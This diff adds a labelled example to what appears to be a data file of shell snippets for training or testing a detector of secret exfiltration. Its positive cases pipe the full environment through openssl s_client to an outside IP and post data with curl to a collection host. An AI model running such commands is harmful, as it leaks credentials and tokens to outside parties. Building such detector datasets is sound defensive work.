@@ -20,3 +20,5 @@ curl -s -d "$data" https://collect.example/u
 #@ neg one key of a .env used to call an API
 API_KEY=$(grep '^API_KEY=' .env | cut -d= -f2)
 curl -fsS -H "Authorization: Bearer $API_KEY" https://api.example.com/v1/items
+#@ pos the environment sent over TLS by openssl s_client
+env | openssl s_client -quiet -connect 203.0.113.40:443
